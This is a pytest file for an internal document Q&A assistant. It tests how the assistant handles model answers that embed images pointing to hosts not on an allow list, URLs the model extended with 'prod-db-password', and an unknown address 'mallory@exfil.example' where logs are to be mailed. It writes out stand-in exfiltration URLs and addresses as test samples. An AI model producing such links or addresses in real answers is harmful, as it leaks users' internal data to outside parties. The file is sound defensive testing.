"""The answer checked on its way back, through the whole gate against the fake Anthropic server: links and
images to hosts not allowed never reach the reader, and an answer that quotes an identifier from nowhere is
withheld, kept in the history as the notice only, never cached, and audited without the identifier."""

from __future__ import annotations

import json

import pytest
from django.forms.models import model_to_dict

from assistant.models import HistoryEntry
from assistant.services import answer_question, stream_answer
from routing.models import AuditEvent, CachedAnswer
from routing.runner import Delta, Restart

DEPLOYS = "# Deploys\n\nRoll back a bad deploy from the deploy dashboard, then post in the deploys channel."
QUESTION = "How do I roll back a bad deploy?"
IMAGE = "![status](https://evil.example/p?d=deploy-dashboard-rollback)"
ADDRESS = "mallory@exfil.example"


def row(model: type, pk: int) -> str:
    """Every field of a stored row, as one string to search for what must not be there."""
    return json.dumps(model_to_dict(model.objects.get(pk=pk)), default=str)


def test_an_image_to_a_host_not_allowed_reaches_the_reader_without_it(ingest, employee, cloud):
    ingest("deploys.md", DEPLOYS, "internal")
    cloud.behave(text=f"Roll back from the deploy dashboard [1]. {IMAGE}")

    events = list(stream_answer(question=QUESTION, acting_user=employee))

    kept = events[-1]
    expected = "Roll back from the deploy dashboard [1]. [image removed: evil.example is not an allowed host]"
    assert kept.answer.text == expected
    assert [c.n for c in kept.answer.citations] == [1]
    # What streamed is withdrawn and the answer as checked sent again.
    restart = next(i for i, e in enumerate(events) if isinstance(e, Restart))
    assert events[restart].reason == "Links to hosts that are not allowed were taken out of the answer."
    assert [e.text for e in events[restart + 1 : -1] if isinstance(e, Delta)] == [expected]
    assert HistoryEntry.objects.get(id=kept.history_id).text == expected
    assert AuditEvent.objects.get(id=kept.answer.audit_id).outcome == AuditEvent.Outcome.ANSWERED


def test_an_allowed_host_keeps_its_image_and_a_cache_hit_is_checked_again(ingest, employee, cloud, settings):
    ingest("deploys.md", DEPLOYS, "internal")
    cloud.behave(text=f"Roll back from the deploy dashboard [1]. {IMAGE}")
    settings.ANSWER_LINK_HOSTS = [".evil.example"]

    first = answer_question(question=QUESTION, acting_user=employee)
    settings.ANSWER_LINK_HOSTS = []
    second = answer_question(question=QUESTION, acting_user=employee)

    assert IMAGE in first.answer.text
    assert second.answer.cache_hit and len(cloud.requests) == 1
    assert IMAGE not in second.answer.text and "[image removed: evil.example" in second.answer.text
    assert CachedAnswer.objects.get().text.endswith(IMAGE)  # kept as written: checked on each way back


def test_a_url_of_the_passage_is_allowed_but_not_one_the_model_extended(ingest, employee, cloud):
    ingest("deploys.md", DEPLOYS + " The dashboard is https://deploy.corp.example/rollback?env=", "internal")
    cloud.behave(
        text="Use https://deploy.corp.example/rollback?env= [1], "
        "or ![x](https://deploy.corp.example/rollback?env=prod-db-password)."
    )

    answer = answer_question(question=QUESTION, acting_user=employee).answer

    assert answer.text == (
        "Use https://deploy.corp.example/rollback?env= [1], "
        "or [image removed: deploy.corp.example is not an allowed host]."
    )


def test_an_answer_cut_off_mid_way_is_checked_too(ingest, employee, cloud, edit_policy):
    edit_policy(
        "    targets: [claude, local]\n    redact: true\n    max_passages: 5\n    on_failure: degrade",
        "    targets: [claude]\n    redact: true\n    max_passages: 5\n    on_failure: fail_closed",
    )
    ingest("deploys.md", DEPLOYS, "internal")
    cloud.behave(text=f"{IMAGE} Roll back from the deploy dashboard and then", drop_after=6)

    answer = answer_question(question=QUESTION, acting_user=employee).answer

    assert answer.cut_off and "evil.example/p" not in answer.text
    assert answer.text.startswith("[image removed: evil.example is not an allowed host] Roll back")
    assert answer.text.endswith("[The answer was cut off here: the model stopped mid-answer.]")


def test_an_answer_quoting_an_address_from_nowhere_is_withheld_and_leaves_no_trace(ingest, employee, cloud):
    ingest("deploys.md", DEPLOYS, "internal")
    cloud.behave(text=f"Roll back from the deploy dashboard [1], then mail the logs to {ADDRESS}.")

    events = list(stream_answer(question=QUESTION, acting_user=employee))

    kept = events[-1]
    answer = kept.answer
    notice = answer.text
    assert ADDRESS not in notice
    assert notice.startswith(
        "This answer was withheld: it quoted an e-mail address that was neither in your question nor in the "
        "documents used."
    )
    assert answer.citations == [] and answer.attributed == ()
    # The reader saw it stream, then withdrawn.
    restart = next(i for i, e in enumerate(events) if isinstance(e, Restart))
    assert ADDRESS in "".join(e.text for e in events[:restart])
    assert events[restart].reason.startswith("The answer was withheld: it quoted an e-mail address")
    assert [e.text for e in events[restart + 1 : -1]] == [notice]
    # The history keeps the notice only.
    entry = HistoryEntry.objects.get(id=kept.history_id)
    assert entry.text == notice and entry.citations == []
    assert ADDRESS not in row(HistoryEntry, entry.id)
    # The audit row says it was withheld, and why, without the address.
    event = AuditEvent.objects.get(id=answer.audit_id)
    assert event.outcome == AuditEvent.Outcome.WITHHELD
    assert event.refusal_reason == (
        "The answer quoted an e-mail address that was neither in the question nor in the documents used."
    )
    assert event.backend == "claude" and [a["outcome"] for a in event.attempts] == ["ok"]
    assert "mallory" not in row(AuditEvent, event.id) and "exfil" not in row(AuditEvent, event.id)
    # Never cached: the next asker gets a fresh answer.
    assert CachedAnswer.objects.count() == 0


def test_an_address_from_the_question_or_the_passages_is_not_withheld(ingest, employee, cloud):
    ingest("deploys.md", DEPLOYS + " Tell release.desk@corp.example when it is done.", "internal")
    cloud.behave(
        text="Roll back from the deploy dashboard and tell Release.Desk@corp.example [1]; cc dana@corp.example."
    )

    answer = answer_question(question=f"I am dana@corp.example: {QUESTION}", acting_user=employee).answer

    assert answer.withheld == "" and "Release.Desk@corp.example" in answer.text and "dana@corp.example" in answer.text
    assert AuditEvent.objects.get(id=answer.audit_id).outcome == AuditEvent.Outcome.ANSWERED


def test_a_cached_answer_quoting_an_identifier_from_nowhere_is_withheld_on_a_hit(ingest, employee, cloud):
    # Kept before this check existed (or by another path): a hit is checked like a fresh answer.
    ingest("deploys.md", DEPLOYS, "internal")
    cloud.behave(text="Roll back from the deploy dashboard [1].")
    answer_question(question=QUESTION, acting_user=employee)
    CachedAnswer.objects.update(text=f"Roll back from the deploy dashboard [1]; mail {ADDRESS}.")

    answer = answer_question(question=QUESTION, acting_user=employee).answer

    assert answer.cache_hit and ADDRESS not in answer.text and answer.text.startswith("This answer was withheld")
    assert AuditEvent.objects.get(id=answer.audit_id).outcome == AuditEvent.Outcome.WITHHELD


@pytest.fixture
def extractive_only(settings):
    """No model configured: the in-process extractive backend answers."""
    settings.ANTHROPIC_API_KEY = ""
    settings.LOCAL_LLM_BASE_URL = ""


@pytest.mark.usefixtures("extractive_only")
def test_the_extractive_backend_is_never_withheld_for_quoting_its_passages(ingest, employee):
    ingest(
        "network-desk.md",
        "# Network desk\n\nThe network desk answers VPN tickets at netdesk@corp.example or (555) 201-7788, "
        "weekdays from eight to six.",
        "internal",
    )

    answer = answer_question(question="How do I reach the network desk about VPN tickets?", acting_user=employee).answer

    assert answer.backend == "extractive" and answer.withheld == ""
    assert "netdesk@corp.example or (555) 201-7788" in answer.text


@pytest.mark.usefixtures("extractive_only")
def test_a_command_quoted_by_the_extractive_backend_keeps_its_bracketed_index(ingest, employee):
    # In an answer a bracketed number is a citation, and one naming no passage sent is taken out: a quoted
    # command's index ("DBClusters[0]") used to be cut, leaving a command that does not run.
    ingest(
        "rds-rotation.md",
        "# Rotating the RDS password\n\nWait until the cluster status returns to available:\n\n"
        "```\naws rds describe-db-clusters --db-cluster-identifier prod-main --query 'DBClusters[0].Status'\n"
        "aws rds describe-db-clusters --db-cluster-identifier prod-main --query 'DBClusters[0].Endpoint'\n```",
        "internal",
    )

    answer = answer_question(question="How do I check the RDS cluster status?", acting_user=employee).answer

    assert answer.backend == "extractive"
    assert "--query 'DBClusters[0].Status'" in answer.text
    assert answer.citations_removed == 0
